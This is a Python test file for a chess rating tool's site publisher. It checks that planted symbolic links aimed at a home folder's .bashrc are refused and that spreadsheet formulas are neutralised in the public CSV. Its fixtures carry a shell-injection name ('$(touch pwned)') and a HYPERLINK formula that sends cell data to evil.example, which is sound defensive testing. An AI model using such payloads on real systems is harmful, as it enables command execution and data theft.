"""`publish` never follows a link planted in its folder, and a failed write is one line (issue 26).

A folder anyone else can write into could hold a `.NAME.tmp` link to `~/.bashrc`, a `lists` link to
another folder or a linked `.ratingdb-site`; each attack below is run against a published folder and
everything outside it (a "home" folder with a `.bashrc`) must be byte for byte as before. The site's
files are written under new names created exclusively and renamed into place, folders are opened
without following links (ratingdb/site/output.py). The file system is the same on every engine, so these
run on SQLite.
"""

from __future__ import annotations

import datetime as dt
import errno
import os
import shutil
from pathlib import Path

import pytest
from typer.testing import CliRunner

from ratingdb import db
from ratingdb.cli import app
from ratingdb.site import output
from ratingdb.site.output import MANIFEST
from tests import builders

runner = CliRunner()
EVIL = "Evil, $(touch pwned)"


@pytest.fixture
def url(sqlite_template: Path, tmp_path: Path) -> str:
    path = tmp_path / "r.sqlite"
    shutil.copyfile(sqlite_template, path)
    url = f"sqlite:///{path}"
    engine = db.make_engine(url)
    with db.transaction(engine) as session:
        evil = builders.player(session, EVIL, fide_id=700001)
        builders.imported_list(session, "standard", dt.date(2025, 9, 1), {evil: 1900})
    engine.dispose()
    return url


def tree(folder: Path) -> dict[str, bytes | str]:
    """Every entry below `folder`: file contents, link targets, folders."""
    found: dict[str, bytes | str] = {}
    for path in sorted(folder.rglob("*")):
        key = path.relative_to(folder).as_posix()
        if path.is_symlink():
            found[key] = f"-> {os.readlink(path)}"
        elif path.is_dir():
            found[key] = "folder"
        else:
            found[key] = path.read_bytes()
    return found


@pytest.fixture
def home(tmp_path: Path) -> Path:
    """What the attacks aim at: a home folder with a .bashrc and another folder of files."""
    home = tmp_path / "home"
    (home / "elsewhere").mkdir(parents=True)
    (home / ".bashrc").write_text("alias ls='ls -F'\n")
    (home / "elsewhere" / "standard-2025-09-01.html").write_text("not a page\n")
    (home / "elsewhere" / "keep.txt").write_text("keep me\n")
    return home


def publish(url: str, folder: Path, *args: str) -> tuple[int, str]:
    result = runner.invoke(app, ["--db", url, "publish", str(folder), *args])
    return result.exit_code, result.stderr


def test_a_planted_tmp_link_is_never_written_through(url: str, tmp_path: Path, home: Path) -> None:
    site = tmp_path / "www"
    assert publish(url, site) == (0, "")
    before = tree(home)
    for name in ("index.html", "lists/standard-2025-09-01.html", "lists/standard-2025-09-01.csv"):
        target = site / name
        (target.parent / f".{target.name}.tmp").symlink_to(home / ".bashrc")
        target.write_text("changed, so publish rewrites it\n")
    assert publish(url, site) == (0, "")
    assert tree(home) == before
    assert (site / "index.html").read_text().startswith("<!DOCTYPE html>")
    assert not (tmp_path / "pwned").exists() and not Path("pwned").exists()


@pytest.mark.parametrize(
    "planted",
    ["lists", "players", MANIFEST, "index.html", "lists/standard-2025-09-01.csv"],
)
def test_a_link_in_the_folder_is_refused_and_nothing_outside_changes(
    url: str, tmp_path: Path, home: Path, planted: str
) -> None:
    site = tmp_path / "www"
    assert publish(url, site) == (0, "")
    path = site / planted
    if path.is_dir():
        shutil.rmtree(path)
        path.symlink_to(home / "elsewhere", target_is_directory=True)
    else:
        path.unlink()
        path.symlink_to(home / ".bashrc")
    before_home, before_site = tree(home), tree(site)
    code, error = publish(url, site)
    assert (code, error) == (
        1,
        f"Error: {path} is a symbolic link or not a plain file or folder: publish never follows links — "
        "remove it (the site folder should be writable by the rating officer only)\n",
    )
    assert tree(home) == before_home
    assert tree(site) == before_site


def test_a_folder_that_is_a_link_is_refused(url: str, tmp_path: Path, home: Path) -> None:
    link = tmp_path / "www"
    link.symlink_to(home / "elsewhere", target_is_directory=True)
    before = tree(home)
    assert publish(url, link) == (
        1,
        f"Error: {link} is a symbolic link: give the real folder to publish into\n",
    )
    assert tree(home) == before


@pytest.mark.parametrize(
    ("code", "message"),
    [
        (errno.ENOSPC, "No space left on device — free some space and publish again"),
        (errno.EACCES, "Permission denied — give a folder you may write to"),
    ],
)
def test_a_full_disk_or_an_unwritable_folder_is_one_line_and_leaves_no_temporary_file(
    url: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, code: int, message: str
) -> None:
    # The tests run as root, for whom no folder is unwritable, on a disk that is not full: the failure
    # is made where the kernel reports it, at the write of the second file.
    site = tmp_path / "www"
    real_write = os.write
    writes = []

    def failing_write(fd: int, data: bytes) -> int:
        writes.append(fd)
        if len(writes) >= 2:
            raise OSError(code, os.strerror(code))
        return real_write(fd, data)

    monkeypatch.setattr(output.os, "write", failing_write)
    exit_code, error = publish(url, site)
    assert exit_code == 1
    [line] = error.splitlines()
    assert line.startswith(f"Error: cannot write {site}/") and line.endswith(message), line
    monkeypatch.undo()
    left = tree(site)
    assert [name for name in left if name.endswith(".tmp")] == []
    # The manifest could not be written either (the disk is full): the files this publish made are gone
    # again, so the folder is as before (here: none), and the next publish, with space again, succeeds.
    assert left == {}
    assert publish(url, site) == (0, "")


@pytest.mark.parametrize("port", ["0", "70000", "-1"])
def test_a_port_that_is_no_port_is_refused_before_publishing(url: str, tmp_path: Path, port: str) -> None:
    assert publish(url, tmp_path / "www", "--serve", "--port", port) == (
        1,
        f"Error: --port {port} is not a port a site can be served on — give one from 1 to 65535\n",
    )
    assert not (tmp_path / "www").exists()


def test_the_public_csv_download_carries_no_formula(sqlite_template: Path, tmp_path: Path) -> None:
    # Issue 26: =HYPERLINK(...) reached the site's CSV unchanged. The download is for people, so every
    # cell a spreadsheet would run gets an apostrophe; `list --format csv` (the round-trip form) keeps it.
    path = tmp_path / "f.sqlite"
    shutil.copyfile(sqlite_template, path)
    url = f"sqlite:///{path}"
    hostile = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
    engine = db.make_engine(url)
    with db.transaction(engine) as session:
        a = builders.player(session, hostile, fide_id=700001)
        c = builders.player(session, "@SUM(1+1)", fide_id=700002)
        b = builders.player(session, "Plain, Paul", fide_id=700003)
        builders.imported_list(session, "standard", dt.date(2025, 9, 1), {a: 1900, b: 1800, c: 1700})
    engine.dispose()
    site = tmp_path / "www"
    assert publish(url, site) == (0, "")
    import csv
    import io

    rows = list(csv.reader(io.StringIO((site / "lists" / "standard-2025-09-01.csv").read_text("utf-8"))))
    names = [row[rows[0].index("name")] for row in rows[1:]]
    assert names == ["'" + hostile, "Plain, Paul", "'@SUM(1+1)"]
    exported = runner.invoke(app, ["--db", url, "list", "--format", "csv"])
    assert f'"{hostile.replace(chr(34), chr(34) * 2)}"' in exported.stdout
